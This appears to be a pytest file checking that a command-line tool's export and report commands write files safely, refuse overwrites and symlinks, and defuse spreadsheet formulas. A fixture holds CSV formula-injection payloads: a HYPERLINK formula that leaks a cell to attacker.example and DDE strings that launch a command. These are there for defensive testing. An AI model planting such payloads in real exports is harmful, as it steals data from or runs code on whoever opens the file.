"""`judgepanel export`: the file it writes is safe to write and safe to open (issue 17 §5).

The output path is never the live database, never a folder, and never an existing file without
`--force`; a campaign name is exported as stored (`%` included) on both backends; CSV text cells
that a spreadsheet would run as a formula are written with a leading `'` unless `--raw`.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from sqlalchemy import update

from judgepanel.report.export import neutralise
from judgepanel.store.models import Item
from tests.helpers import cli
from tests.runner.conftest import PAIRS, create_argv, tiny_db

NAME = "p%d%%s"
# item ids a hostile dataset could carry: each starts a spreadsheet formula
HOSTILE = {
    "g0-s0": '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "g0-s1": "+1+cmd|' /C calc'!A0",
    "g0-s2": "-2+3+cmd|' /C calc'!A0",
    "g0-s3": "@SUM(1+9)*cmd|' /C calc'!A0",
    "g1-s0": "\t=1+1",
    "g1-s1": "\r=1+1",
}


@pytest.fixture(scope="module")
def db(module_db_url: str) -> str:
    eng = tiny_db(module_db_url, pairs=12)
    with eng.begin() as conn:
        for old, new in HOSTILE.items():
            conn.execute(update(Item).where(Item.external_id == old).values(external_id=new))
    eng.dispose()
    argv = create_argv(NAME, "sim:a", protocol="pairwise", extra=["--pairs", PAIRS])
    made = cli(*argv, db=module_db_url)
    assert made.code == 0, made.stderr
    ran = cli("campaign", "run", NAME, "--json", db=module_db_url)
    assert ran.code == 0, ran.stderr
    return module_db_url


def _sqlite_path(db: str) -> Path:
    return Path(db.removeprefix("sqlite:///"))


def _one_line_refusal(db: str, *args: str, needle: str) -> None:
    r = cli("export", NAME, "--format", "csv", *args, db=db)
    assert r.code == 2, r.stderr
    assert needle in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr


def test_refuses_the_live_database_and_keeps_it_working(db: str, tmp_path: Path) -> None:
    if not db.startswith("sqlite"):
        pytest.skip("only SQLite keeps the database in a file")
    live = _sqlite_path(db)
    before = live.read_bytes()
    link = tmp_path / "innocent.csv"
    link.symlink_to(live)
    hard = tmp_path / "hard.csv"
    os.link(live, hard)
    relative = os.path.relpath(live, Path.cwd())
    for target in (str(live), relative, str(link), str(hard), str(live) + "-wal"):
        for extra in ((), ("--force",)):
            _one_line_refusal(db, "--out", target, *extra, needle="is the results database itself")
    assert live.read_bytes() == before
    assert cli("campaign", "status", NAME, "--json", db=db).code == 0


def test_existing_file_needs_force_and_a_folder_is_one_line(db: str, tmp_path: Path) -> None:
    out = tmp_path / "v.csv"
    out.write_text("keep me\n")
    _one_line_refusal(db, "--out", str(out), needle="already exists: pass --force")
    assert out.read_text() == "keep me\n"
    _one_line_refusal(db, "--out", str(tmp_path), needle="is a folder")
    r = cli("export", NAME, "--format", "csv", "--out", str(out), "--force", db=db)
    assert r.code == 0, r.stderr
    assert out.read_text().startswith("campaign,")


def test_percent_in_the_campaign_name_is_kept(db: str, tmp_path: Path) -> None:
    for fmt in ("csv", "jsonl", "parquet"):
        out = tmp_path / f"v.{fmt}"
        r = cli("export", NAME, "--format", fmt, "--out", str(out), "--json", db=db).json()
        assert r["rows"] > 0
        if fmt == "csv":
            with out.open(newline="") as f:
                names = {row["campaign"] for row in csv.DictReader(f)}
        elif fmt == "jsonl":
            names = {json.loads(ln)["campaign"] for ln in out.read_text().splitlines()}
        else:
            import pandas as pd

            names = set(pd.read_parquet(out)["campaign"])
        assert names == {NAME}, fmt


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_formula_cells_are_neutralised_unless_raw(db: str, tmp_path: Path) -> None:
    safe = tmp_path / "safe.csv"
    r = cli("export", NAME, "--format", "csv", "--out", str(safe), "--json", db=db).json()
    cells = _cells(safe)
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == []
    for hostile in HOSTILE.values():
        assert "'" + hostile in cells
    assert r["cells_neutralised"] > 0

    raw = tmp_path / "raw.csv"
    r = cli("export", NAME, "--format", "csv", "--out", str(raw), "--raw", "--json", db=db).json()
    assert r["cells_neutralised"] == 0
    raw_cells = _cells(raw)
    for hostile in HOSTILE.values():
        assert hostile in raw_cells
    # JSONL is read by programs: values stay as stored
    js = tmp_path / "v.jsonl"
    assert cli("export", NAME, "--format", "jsonl", "--out", str(js), db=db).code == 0
    items = {json.loads(ln)["item"] for ln in js.read_text().splitlines()}
    assert items & set(HOSTILE.values())


@pytest.mark.parametrize(
    ("cell", "want"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number is not a formula
        ("-0.5", "-0.5"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("- a bullet", "'- a bullet"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, want: str) -> None:
    assert neutralise(cell) == want


# ---------------------------------------------------------------- `report --out`: the same rules (issue 29 §6)


def _report(db: str, *args: str) -> tuple[int, str]:
    r = cli("report", NAME, "--bootstrap", "0", "--cases", "5", *args, db=db)
    return r.code, r.stderr


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_report_refuses_an_existing_file_or_symlink_without_force_and_never_writes_through_one(
    db: str, tmp_path: Path, fmt: str
) -> None:
    """Before, `report --out` overwrote any existing file, through symlinks, without `--force`
    (`export` refused the same path)."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    existing = tmp_path / f"old.{fmt}"
    existing.write_text("keep me\n")
    link = tmp_path / f"link.{fmt}"
    link.symlink_to(victim)
    dangling = tmp_path / f"dangling.{fmt}"
    dangling.symlink_to(tmp_path / "created-through-the-link.txt")
    for out in (existing, link, dangling):
        code, err = _report(db, "--format", fmt, "--out", str(out))
        assert code == 2 and "already exists: pass --force" in err and len(err.strip().splitlines()) == 1, err
    assert existing.read_text() == "keep me\n" and victim.read_text() == "precious\n"
    assert not (tmp_path / "created-through-the-link.txt").exists()
    # with --force the link itself is replaced by the report; what it pointed to is untouched
    code, err = _report(db, "--format", fmt, "--out", str(link), "--force")
    assert code == 0, err
    assert not link.is_symlink() and victim.read_text() == "precious\n"
    assert link.read_text().startswith("<!doctype html>" if fmt == "html" else "#")


def test_report_refuses_the_live_database_even_with_force(db: str, tmp_path: Path) -> None:
    if not db.startswith("sqlite"):
        pytest.skip("only SQLite keeps the database in a file")
    live = _sqlite_path(db)
    before = live.read_bytes()
    link = tmp_path / "innocent.html"
    link.symlink_to(live)
    for target in (str(live), str(link)):
        for extra in ((), ("--force",)):
            code, err = _report(db, "--out", target, *extra)
            assert code == 2 and "is the results database itself" in err, err
    assert live.read_bytes() == before


def test_a_markdown_reports_plot_folder_follows_the_same_rules(db: str, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "r_files").symlink_to(elsewhere)
    code, err = _report(db, "--format", "md", "--out", str(tmp_path / "r.md"), "--force")
    assert code == 2 and "is not a folder" in err, err
    assert list(elsewhere.iterdir()) == [] and not (tmp_path / "r.md").exists()
    (tmp_path / "r_files").unlink()
    assert _report(db, "--format", "md", "--out", str(tmp_path / "r.md"))[0] == 0
    code, err = _report(db, "--format", "md", "--out", str(tmp_path / "s.md"))
    assert code == 0, err
    (tmp_path / "s.md").unlink()  # the plots folder is still there: replacing its plots needs --force
    code, err = _report(db, "--format", "md", "--out", str(tmp_path / "s.md"))
    assert code == 2 and "s_files" in err and "--force" in err, err
